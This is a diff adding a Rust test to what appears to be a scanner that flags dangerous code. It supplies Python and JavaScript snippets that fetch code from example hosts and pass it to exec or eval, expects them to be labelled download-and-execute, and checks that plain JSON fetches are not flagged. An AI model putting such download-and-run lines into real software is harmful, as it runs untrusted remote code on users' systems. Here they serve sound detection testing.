@@ -160,3 +160,22 @@ fn a_secret_in_a_header_or_sent_to_its_own_service_is_used() {
         Vec::<DangerKind>::new()
     );
 }
+
+#[test]
+fn text_fetched_from_the_network_and_run() {
+    assert_eq!(
+        py(
+            "import urllib.request\ncode = urllib.request.urlopen(\"https://cdn.example.net/h.py\").read()\nexec(code)\n"
+        ),
+        [DangerKind::DownloadExecute]
+    );
+    assert_eq!(
+        js(
+            "https.get('https://cdn.example.dev/p.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); });"
+        ),
+        [DangerKind::DownloadExecute]
+    );
+    // Fetched and parsed as data: nothing runs.
+    assert!(py("import requests\ncfg = requests.get(\"https://api.example.com/c\").json()\nprint(cfg)\n").is_empty());
+    assert!(js("const r = await fetch('https://api.example.com/c');\nconst cfg = JSON.parse(await r.text());").is_empty());
+}
